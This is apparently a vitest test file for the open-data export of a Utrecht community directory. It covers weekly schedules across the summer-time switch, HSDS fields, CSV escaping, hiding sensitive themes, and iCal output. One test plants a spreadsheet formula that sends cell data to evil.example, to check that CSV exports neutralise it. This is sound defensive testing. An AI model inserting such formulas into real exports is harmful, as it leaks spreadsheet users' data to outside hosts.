import { csvCell } from '@mzo/content-types/csv';
import ICAL from 'ical.js';
import { describe, expect, it } from 'vitest';
import { openDataBundle } from '../../site/lib/open-data/bundle.ts';
import { tableToCsv } from '../../site/lib/open-data/csv.ts';
import { feedCalendar } from '../../site/lib/open-data/ical.ts';
import { openDataId } from '../../site/lib/open-data/ids.ts';
import { scheduleFields } from '../../site/lib/open-data/schedule.ts';
import type { OpenDataSource } from '../../site/lib/open-data/source.ts';
import type { Row } from '../../site/lib/open-data/records.ts';
import { occurrences } from '../../site/lib/recurrence.ts';
import { csvRecords } from '../support/csv.ts';

const ref = (documentId: string) => ({ documentId });
const amsterdam = (d: Date) =>
  new Intl.DateTimeFormat('nl-NL', { timeZone: 'Europe/Amsterdam', weekday: 'short', hour: '2-digit', minute: '2-digit' }).format(d);

/** A small source with the awkward cases: a sensitive theme nobody shows, Dutch punctuation, a DST switch. */
function fixture(): OpenDataSource {
  const theme = (documentId: string, name: string, sensitive = false) => ({ documentId, locale: 'nl', name, slug: documentId, sensitive, description: null });
  return {
    locale: 'nl',
    siteUrl: 'https://mzo.example.org/',
    builtAt: new Date('2026-11-30T08:00:00Z'),
    themes: [theme('taal', 'Taal en inburgering'), theme('discr', 'Verborgen Gevoelig Thema', true), theme('radi', 'Getoond Gevoelig Thema', true)],
    wijken: [{ documentId: 'w1', locale: 'nl', name: 'West', slug: 'west', code: 'WK034401', description: 'Lombok, “Kanaal”, oud; nieuw' }],
    communities: [],
    languages: [{ documentId: 'l1', locale: 'nl', name: 'Nederlands', slug: 'nederlands', code: 'nl' }],
    targetGroups: [],
    organisations: [
      {
        documentId: 'o1',
        locale: 'nl',
        name: 'Stichting “De Brug”, Lombok',
        slug: 'stichting-de-brug',
        summary: 'Café, taal en "thee"; elke week.\nOok op zondag.',
        legalForm: 'stichting',
        themes: [ref('taal'), ref('radi')],
        locatedIn: ref('w1'),
        serves: [ref('w1')],
        languages: [ref('l1')],
        address: {
          street: 'Kanaalstraat',
          houseNumber: '12',
          houseNumberAddition: 'A',
          postcode: '3531 AB',
          city: 'Utrecht',
          latitude: 52.0905,
          longitude: 5.1012,
          buurtCode: 'BU03440101',
        },
        lastConfirmed: '2026-10-01',
        phone: '030 123 4567',
      },
    ],
    activities: [
      {
        documentId: 'a1',
        locale: 'nl',
        title: 'Taalcafé, met “koffie”',
        slug: 'taalcafe',
        organisation: ref('o1'),
        summary: 'Samen praten; iedereen welkom.',
        // Saturday 14:00 in winter time, weekly across the switch to summer time on 28 March 2027.
        startsAt: '2027-03-13T13:00:00.000Z',
        endsAt: '2027-03-13T15:00:00.000Z',
        recurrence: 'FREQ=WEEKLY;BYDAY=SA;UNTIL=20270410T215959Z',
        themes: [ref('taal'), ref('discr'), ref('radi')],
        wijk: ref('w1'),
        languages: [ref('l1')],
        free: true,
        address: null,
        room: null,
      },
    ],
    rooms: [],
    contacts: [],
    consultations: [],
  } as unknown as OpenDataSource;
}

describe('recurrence expansion in Europe/Amsterdam', () => {
  it('keeps a weekly activity at the same wall-clock time across the switch to summer time', () => {
    const list = occurrences(fixture().activities[0], new Date('2027-03-01T00:00:00Z'), new Date('2027-05-01T00:00:00Z'));
    expect(list.map((o) => amsterdam(o.start))).toEqual(['za 14:00', 'za 14:00', 'za 14:00', 'za 14:00', 'za 14:00']);
    expect(list.map((o) => o.start.toISOString().slice(0, 16))).toEqual([
      '2027-03-13T13:00',
      '2027-03-20T13:00',
      '2027-03-27T13:00',
      '2027-04-03T12:00',
      '2027-04-10T12:00',
    ]);
    expect(list.every((o) => o.end!.getTime() - o.start.getTime() === 2 * 3600_000)).toBe(true);
  });

  it('expands monthly last-Saturday rules and stops at COUNT', () => {
    const monthly = { startsAt: '2026-10-31T14:00:00.000Z', endsAt: null, recurrence: 'FREQ=MONTHLY;BYDAY=-1SA;COUNT=3' };
    const list = occurrences(monthly, new Date('2026-01-01T00:00:00Z'), new Date('2028-01-01T00:00:00Z'));
    expect(list.map((o) => o.start.toISOString().slice(0, 10))).toEqual(['2026-10-31', '2026-11-28', '2026-12-26']);
    expect(list.map((o) => amsterdam(o.start))).toEqual(['za 15:00', 'za 15:00', 'za 15:00']);
    expect(list[0].end).toBeNull();
  });

  it('returns a one-off activity only inside the window, and names the activity when a rule is broken', () => {
    const once = { startsAt: '2026-12-05T13:00:00.000Z', endsAt: '2026-12-05T15:00:00.000Z' };
    expect(occurrences(once, new Date('2026-12-01'), new Date('2026-12-31'))).toHaveLength(1);
    expect(occurrences(once, new Date('2026-12-06'), new Date('2026-12-31'))).toHaveLength(0);
    expect(() => occurrences({ ...once, slug: 'kapot', recurrence: 'FREQ=SOMETIMES' }, new Date('2026-12-01'), new Date('2026-12-31'))).toThrow(/kapot/);
  });
});

describe('HSDS schedule fields', () => {
  it('maps RRULE parts to HSDS fields with Amsterdam dates and times', () => {
    expect(scheduleFields(fixture().activities[0])).toMatchObject({
      dtstart: '2027-03-13',
      freq: 'WEEKLY',
      interval: 1,
      byday: 'SA',
      until: '2027-04-10',
      opens_at: '14:00',
      closes_at: '16:00',
    });
    expect(scheduleFields({ startsAt: '2026-12-01T18:00:00Z', recurrence: 'FREQ=WEEKLY;INTERVAL=2;BYDAY=TU;COUNT=9' })).toMatchObject({
      interval: 2,
      count: 9,
      byday: 'TU',
    });
  });
});

describe('CSV tables', () => {
  it('keep Dutch text, commas, quotes and line breaks intact for a strict reader, in the declared columns', () => {
    const rows: Row[] = [
      { id: openDataId('test', '1'), name: 'Stichting “De Brug”, Lombok', description: 'Zij zei: "kom!"\nTweede regel; één, twee', year_incorporated: 1998 },
      { id: openDataId('test', '2'), name: 'Café Ü’s', description: 'Oud\rnieuw' },
    ];
    const table = tableToCsv('organizations', rows);
    const columns = table.schema.fields.map((f) => f.name);
    expect(columns.slice(0, 4)).toEqual(['id', 'name', 'alternate_name', 'description']);
    expect(csvRecords(table.csv)).toEqual(rows.map((row) => Object.fromEntries(columns.map((c) => [c, csvCell(row[c])]))));
  });

  it('refuse a column the table schema does not declare, naming table and column', () => {
    expect(() => tableToCsv('organizations', [{ id: openDataId('test', '1'), name: 'X', colour: 'blauw' }])).toThrow(/organizations has no column colour/);
  });

  it('neutralise an organisation name that is a spreadsheet formula, in every table that holds it', () => {
    const formula = '=HYPERLINK("https://evil.example/?d="&A2,"Klik hier")';
    const source = fixture();
    source.organisations[0].name = formula;
    const { csvTables, dataset } = openDataBundle(source);
    const holding = csvTables.filter((t) => t.csv.includes('HYPERLINK'));
    expect(holding.map((t) => t.name).sort()).toEqual(['locations', 'organizations']);
    for (const table of holding) {
      const names = csvRecords(table.csv).map((r) => r.name);
      expect(names, table.name).toContain(`'${formula}`);
      expect(names, table.name).not.toContain(formula);
    }
    // The JSON keeps the name as it is: JSON readers run no formulas.
    expect(dataset.tables.organizations[0].name).toBe(formula);
  });
});

describe('open-data privacy rules', () => {
  const bundle = openDataBundle(fixture());
  const everything = [
    bundle.hsdsJson,
    JSON.stringify(bundle.dataPackage),
    ...bundle.csvTables.map((t) => t.csv),
    JSON.stringify(bundle.organisations),
    JSON.stringify(bundle.rooms),
    ...bundle.feeds.map((f) => feedCalendar(f, bundle.publishable)),
  ];

  it('never mentions a sensitive theme that no organisation shows publicly', () => {
    for (const text of everything) expect(text).not.toContain('Verborgen Gevoelig Thema');
    expect(bundle.feeds.filter((f) => f.kind === 'theme').map((f) => f.slug)).toEqual(['taal', 'radi']);
  });

  it('publishes a sensitive theme that an organisation shows, with its feed', () => {
    expect(bundle.hsdsJson).toContain('Getoond Gevoelig Thema');
    expect(bundle.feeds.find((f) => f.slug === 'radi')!.activities).toHaveLength(1);
  });
});

describe('iCal writing', () => {
  it('writes CRLF lines of at most 75 octets that ical.js reads back with the same times', () => {
    const bundle = openDataBundle(fixture());
    const text = feedCalendar(bundle.feeds[0], bundle.publishable);
    const lines = text.split('\r\n');
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    for (const line of lines) expect(Buffer.byteLength(line, 'utf8')).toBeLessThanOrEqual(75);
    const calendar = new ICAL.Component(ICAL.parse(text));
    ICAL.TimezoneService.register(calendar.getFirstSubcomponent('vtimezone')!);
    const event = new ICAL.Event(calendar.getFirstSubcomponent('vevent')!);
    expect(event.uid).toBe('activity-a1-nl@mzo-gids-utrecht');
    expect(event.summary).toBe('Taalcafé, met “koffie”');
    const starts: string[] = [];
    const iterator = event.iterator();
    for (let next = iterator.next(); next; next = iterator.next()) starts.push(next.toJSDate().toISOString().slice(0, 16));
    expect(starts).toEqual(['2027-03-13T13:00', '2027-03-20T13:00', '2027-03-27T13:00', '2027-04-03T12:00', '2027-04-10T12:00']);
  });
});
